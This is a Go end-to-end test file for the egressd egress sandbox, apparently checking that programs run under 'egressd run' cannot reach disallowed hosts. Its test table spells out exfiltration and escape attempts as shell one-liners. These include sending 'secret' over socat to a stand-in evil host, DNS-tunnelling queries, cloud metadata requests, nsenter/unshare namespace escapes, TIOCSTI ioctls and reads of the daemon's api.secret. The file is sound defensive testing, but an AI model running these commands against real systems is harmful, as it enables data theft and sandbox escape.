package run

import (
	"bytes"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/policy"
	"github.com/egressd/egressd/record"
)

// A ran is what came of egressd run.
type ran struct {
	out, talk string
	code      int
	records   []record.Record
}

// jailed returns the command for a program under egressd run, in the gateway.
func jailed(ctx context.Context, d *world.Daemon, user string, flags []string, argv ...string) *exec.Cmd {
	words := slices.Concat(world.Users[user], []string{world.Egressd.Path(), "run", "--config", d.Config}, flags, []string{"--"}, argv)
	cmd := exec.CommandContext(ctx, words[0], words[1:]...)
	cmd.Dir = d.Dir
	cmd.Env = append(os.Environ(), "HOME="+d.Dir, "XDG_STATE_HOME="+d.Dir)
	return cmd
}

// codeOf returns an exit code as shells have it: a signal counts as 128 and its number.
func codeOf(state *os.ProcessState) int {
	if status, ok := state.Sys().(syscall.WaitStatus); ok && status.Signaled() {
		return 128 + int(status.Signal())
	}
	return state.ExitCode()
}

// runAs runs a shell script under egressd run.
func runAs(t *testing.T, d *world.Daemon, user, script string, flags ...string) *ran {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	cmd := jailed(ctx, d, user, flags, "sh", "-c", script)
	var out, talk bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &talk
	var exit *exec.ExitError
	if err := d.World.Gateway.Run(cmd); err != nil && !errors.As(err, &exit) {
		t.Fatalf("%v: %s", err, talk.String())
	}
	r := &ran{out: out.String(), talk: talk.String(), code: codeOf(cmd.ProcessState)}
	r.records = lastRun(t, d)
	return r
}

// lastRun returns the records of the newest run.
func lastRun(t *testing.T, d *world.Daemon) []record.Record { return lastRunIn(t, d.Dir) }

// lastRunIn returns the records of the last run whose log is below a folder of state.
func lastRunIn(t *testing.T, state string) []record.Record {
	t.Helper()
	runs, err := filepath.Glob(filepath.Join(state, "runs", "*"))
	if err != nil || len(runs) == 0 {
		return nil
	}
	slices.Sort(runs)
	log := &world.AuditLog{Dir: runs[len(runs)-1]}
	records, err := log.Since(0)
	if problems := log.Flawed(); err != nil || len(problems) > 0 {
		t.Errorf("%v %q", err, problems)
	}
	return records
}

// denied counts the records that deny host, which is a name or an address.
func (r *ran) denied(host string, class policy.Class) (n int) {
	for _, rec := range r.records {
		if rec.Dst != nil && rec.Dst.Host == host && rec.Decision != nil && rec.Decision.Class == string(class) {
			n++
		}
	}
	return n
}

func TestRunReachesWhatIsAllowed(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	for user := range world.Users {
		for _, flags := range [][]string{nil, {"--redirect"}} {
			t.Run(user+strings.Join(flags, ""), func(t *testing.T) {
				r := runAs(t, d, user, `curl -sS -m9 http://a.allowed.test/x; echo; curl -sS -m9 --cacert lab.pem https://a.allowed.test/y`, flags...)
				if r.code != 0 || strings.Count(r.out, "origin") < 2 {
					t.Fatalf("exit %d, %q, %q", r.code, r.out, r.talk)
				}
			})
		}
	}
}

// TestRunStopsWhatTriesToLeave runs escape attempts as the program would make
// them. No packet may leave the gateway, and no name be asked for.
func TestRunStopsWhatTriesToLeave(t *testing.T) {
	world.Covers(t, "KC-01", "KC-02", "KC-03", "KC-06", "KC-10", "DN-02", "DN-05", "DN-06", "DN-07", "DN-19", "DN-20", "DN-37", "TL-31", "TL-34")
	d := world.NewDaemon(t, world.RunPolicy)
	abstract, err := d.World.Gateway.Listen("unix", "@egressd-e2e")
	if err != nil {
		t.Fatal(err)
	}
	defer abstract.Close()
	outside := exec.Command("sh", "-c", "ls /proc/self/fd | wc -l")
	var count strings.Builder
	outside.Stdout = &count
	if err := d.World.Gateway.Run(outside); err != nil {
		t.Fatal(err)
	}
	descriptors := count.String() // what was inherited before stays
	for user := range world.Users {
		kept := "0000000000000000"
		if user == "root" {
			kept = "00000000000404fb" // see TestRootKeepsNoMoreUnderRun
		}
		for _, row := range []struct {
			says, script string
			out          string // what the script has to print, among others
			host         string // that a record denies; empty: none is needed
			class        policy.Class
		}{
			{"a name, in clear", `curl -sS -m9 http://evil.test/`, `"class":"default-deny"`, "evil.test", policy.DefaultDeny},
			{"a name, in TLS", `curl -sS -m9 https://evil.test/ 2>&1`, `"class":"default-deny"`, "evil.test", policy.DefaultDeny},
			{"a name, in TLS, over IPv6", `curl -6 -sS -m9 https://evil.test/ 2>&1`, `"class":"default-deny"`, "evil.test", policy.DefaultDeny},
			{"no proxy variable counts", `NO_PROXY='*' HTTPS_PROXY=http://evil.test:3128 curl -sS -m9 https://evil.test/ 2>&1`, `"class":"default-deny"`, "evil.test", policy.DefaultDeny},
			{"a name that it resolved by itself", `curl -sS -m9 --resolve evil.test:443:151.101.1.69 https://evil.test/ 2>&1`, `"class":"default-deny"`, "evil.test", policy.DefaultDeny},
			{"an allowed name at an address of its choice", `curl -sS -m9 --connect-to ::169.254.169.254:80 http://b.allowed.test/`, "origin " + world.AllowedIPv4, "", ""},
			{"an address", `curl -sS -m9 http://151.101.1.69/`, `"class":"default-deny"`, world.EvilIPv4, policy.DefaultDeny},
			{"an IPv6 address", `curl -sS -m9 -g http://[2606:4700:4700::1111]/`, `"class":"default-deny"`, "2606:4700:4700::1111", policy.DefaultDeny},
			{"metadata", `curl -sS -m9 http://169.254.169.254/`, `"class":"address-denied"`, "169.254.169.254", policy.AddressDenied},
			{"a private address", `curl -sS -m9 http://10.0.0.5/`, `"class":"address-denied"`, "10.0.0.5", policy.AddressDenied},
			{"the gateway", `curl -sS -m9 http://10.99.0.2/`, `"class":"address-denied"`, "10.99.0.2", policy.AddressDenied},
			{"the gateway's loopback", `curl -sS -m9 http://127.0.0.1:8080/ 2>&1`, "curl: (7)", "", ""},
			{"another port", `curl -sS -m9 http://151.101.1.69:8443/`, `"class":"default-deny"`, world.EvilIPv4, policy.DefaultDeny},
			{"raw TCP", `echo secret | socat -t2 - TCP:151.101.1.69:9 2>&1; echo $?`, "", world.EvilIPv4, policy.DefaultDeny},
			{"a datagram", `echo secret | socat -t1 - UDP:151.101.1.69:9999 2>&1; echo done`, "refused", world.EvilIPv4, policy.UDPDenied},
			{"a datagram over IPv6", `echo secret | socat -t1 - UDP6:[2606:4700:4700::1111]:443 2>&1; echo done`, "refused", "2606:4700:4700::1111", policy.UDPDenied},
			{"a name server of its choice", `dig +short +time=3 +tries=1 @8.8.8.8 secret.evil.test`, "28.255.", "", ""},
			{"a name server of its choice, over TCP", `dig +short +tcp +time=3 +tries=1 @8.8.8.8 secret.evil.test`, "28.255.", "", ""},
			{"a name server of its choice, over IPv6", `dig +short +time=3 +tries=1 @2606:4700:4700::1111 secret.evil.test`, "28.255.", "", ""},
			{"what is no address", `dig +time=3 +tries=1 c2VjcmV0.b.allowed.test TXT`, "status: REFUSED", "", ""},
			{"a name server's own business", `dig +time=3 +tries=1 CH TXT version.bind`, "status: REFUSED", "", ""},
			{"a name server over TLS and over HTTPS", `echo x | socat -t1 - TCP:1.1.1.1:853; curl -sS -m9 https://1.1.1.1/dns-query 2>&1`, `"class":"default-deny"`, "1.1.1.1", policy.DefaultDeny},
			{"the neighbourhood", `for a in 224.0.0.251:5353 224.0.0.252:5355 255.255.255.255:137; do echo x | socat -t1 - UDP-DATAGRAM:$a,broadcast 2>&1; done; echo done`, "done", "", ""},
			{"QUIC", `echo x | socat -t1 - UDP:93.184.216.34:443 2>&1; echo done`, "refused", world.AllowedIPv4, policy.UDPDenied},
			{"an abstract socket of the gateway", `echo x | socat -t1 - ABSTRACT-CONNECT:egressd-e2e 2>&1; echo done`, "refused", "", ""},
			{"ping", `ping -c1 -W1 151.101.1.69 2>&1; echo done`, "done", "", ""},
			{"other kinds of sockets", `python3 -c '
import socket
for f in (40, 38, 17, 31, 44):
    try: socket.socket(f, socket.SOCK_RAW if f == 17 else socket.SOCK_STREAM); print("made", f)
    except OSError as e: print("not", f)
for p in (12, 16):
    try: socket.socket(16, socket.SOCK_RAW, p); print("made netlink", p)
    except OSError as e: print("not netlink", p)
for f, t in ((2, 3), (10, 3)):
    try: socket.socket(f, t, 1); print("made raw", f)
    except OSError as e: print("not raw", f)
'`, "not 40\nnot 38\nnot 17\nnot 31\nnot 44\nnot netlink 12\nnot netlink 16\nnot raw 2\nnot raw 10\n", "", ""},
			{"io_uring and a terminal's input", `python3 -c '
import ctypes, fcntl, errno
c = ctypes.CDLL(None, use_errno=True)
print(c.syscall(425, 8, ctypes.create_string_buffer(240)), errno.errorcode[ctypes.get_errno()])
for r in (0x5412, 0x541c, 0x5412 | 1 << 32):
    print(c.ioctl(0, ctypes.c_ulong(r), ctypes.create_string_buffer(b"x")), errno.errorcode[ctypes.get_errno()])
'`, "-1 ENOSYS\n-1 EPERM\n-1 EPERM\n-1 EPERM\n", "", ""},
			{"its own network", `ip link add x type veth peer name y 2>&1; ip route add 1.2.3.4/32 dev lo 2>&1; nft flush ruleset 2>&1; ip link set eth0 down 2>&1; ip addr show | grep '^[0-9]' | grep -cvE '^[0-9]+: (lo|eth0): <[A-Z,_]*UP'`, "0\n", "", ""},
			{"an interface that leads nowhere", `ip route | grep -c '^default dev eth0'; curl -sS -m1 --interface eth0 http://151.101.1.69/ 2>&1; echo x | socat -t1 - UDP:151.101.1.69:9999,so-bindtodevice=eth0 2>&1; echo x | socat -t1 - UDP:224.0.0.251:5353,so-bindtodevice=eth0 2>&1; echo done`, "1\n", "", ""},
			{"other namespaces", `nsenter -t 1 -n true 2>&1; unshare -Urn sh -c 'curl -sS -m3 http://151.101.1.69/ 2>&1'; echo done`, "done", "", ""},
			{"privileges", `grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\t'`,
				"CapInh:0000000000000000\nCapPrm:" + kept + "\nCapEff:" + kept + "\nCapBnd:" + kept + "\nCapAmb:0000000000000000\nNoNewPrivs:1\nSeccomp:2\n", "", ""},
			{"the signals that its user may queue", `awk '/^Max pending signals/ { print $4 == $5 }' /proc/self/limits`, "1\n", "", ""},
			{"egressd's own files", `ls runs audit 2>&1 | grep -v : ; cat api.secret; echo x >> egressd.yaml; mv egressd.yaml other; rm -f egressd.yaml; test -s egressd.yaml && echo kept`, "kept", "", ""},
			{"descriptors", `ls /proc/self/fd | wc -l`, descriptors, "", ""},
		} {
			t.Run(user+"/"+row.says, func(t *testing.T) {
				wire, err := d.World.Wire.Mark()
				if err != nil {
					t.Fatal(err)
				}
				asked := d.World.Zone.Mark()
				r := runAs(t, d, user, row.script)
				if !strings.Contains(r.out, row.out) || r.code == 125 {
					t.Errorf("exit %d, printed %q (%s), want %q", r.code, r.out, r.talk, row.out)
				}
				if row.host != "" && row.class != "" && r.denied(row.host, row.class) == 0 {
					t.Errorf("nothing denies %s as %s: %+v", row.host, row.class, r.records)
				}
				for _, name := range d.World.Zone.Since(asked) {
					if name != "b.allowed.test" {
						t.Errorf("%s was asked for", name)
					}
				}
				packets, err := d.World.Wire.Since(wire)
				if err != nil {
					t.Fatal(err)
				}
				for _, p := range packets {
					if !strings.HasPrefix(row.says, "an allowed name") {
						t.Errorf("sent %v", p)
					}
				}
			})
		}
	}
}

// TestRunServersThatSpeakFirst connects to what a rule names.
func TestRunServersThatSpeakFirst(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	r := runAs(t, d, "user", `echo marker | socat -t2 - TCP:db.allowed.test:5432; echo marker2 | socat -t2 - TCP:93.184.216.34:7000; curl -sS -m9 -k https://93.184.216.34/`)
	if strings.Count(r.out, "marker") != 2 || !strings.Contains(r.out, "origin") {
		t.Errorf("printed %q, %q: %+v", r.out, r.talk, r.records)
	}
}

func TestRunExitCodes(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	for _, row := range []struct {
		says, script string
		flags        []string
		code         int
	}{
		{"the program's own", "exit 7", nil, 7},
		{"a signal", "kill -KILL $$", nil, 128 + 9},
		{"success", "true", []string{"--fail-on-deny"}, 0},
		{"a denial that counts", "curl -s http://evil.test/ >/dev/null", []string{"--fail-on-deny"}, 86},
		{"a denial that counts, of a name alone", "dig +short evil.test >/dev/null", []string{"--fail-on-deny"}, 86},
		{"a denial and a failure", "curl -s http://evil.test/ >/dev/null; exit 3", []string{"--fail-on-deny"}, 3},
		{"a flag that does not exist", "true", []string{"--nonsense"}, 125},
		{"a name that is none", "true", []string{"--name", "a b"}, 125},
	} {
		if r := runAs(t, d, "user", row.script, row.flags...); r.code != row.code {
			t.Errorf("%s: exit %d, want %d: %s", row.says, r.code, row.code, r.talk)
		}
	}
	for name, code := range map[string]int{d.Config: 126, "/etc": 126, "/nowhere": 127, "no-such-program": 127} {
		cmd := jailed(t.Context(), d, "user", nil, name)
		d.World.Gateway.Run(cmd)
		if got := cmd.ProcessState.ExitCode(); got != code {
			t.Errorf("%s: exit %d, want %d", name, got, code)
		}
	}
}

// TestRunSaysWhatItCameTo reads the first and the last lines.
func TestRunSaysWhatItCameTo(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	r := runAs(t, d, "user", `curl -sS http://a.allowed.test/ >/dev/null; curl -s http://evil.test/ http://evil.test/ >/dev/null`, "--name", "fix-login")
	first, last, _ := strings.Cut(r.talk, "\n")
	if !strings.HasPrefix(first, "egressd: sandbox fix-login (all traffic captured), policy "+d.Config+" (") {
		t.Errorf("said %q", first)
	}
	if !strings.Contains(last, "1 request to 1 host in ") || !strings.Contains(last, "; 2 denied\n") || !strings.Contains(last, "egressd: denied: evil.test:80 ×2 (default-deny: ") || !strings.Contains(last, "egressd allow evil.test --from ") || !strings.Contains(last, "egressd log --run 2") {
		t.Errorf("said %q", last)
	}
	if quiet := runAs(t, d, "user", "true", "-q"); quiet.talk != "" {
		t.Errorf("said %q", quiet.talk)
	}
}
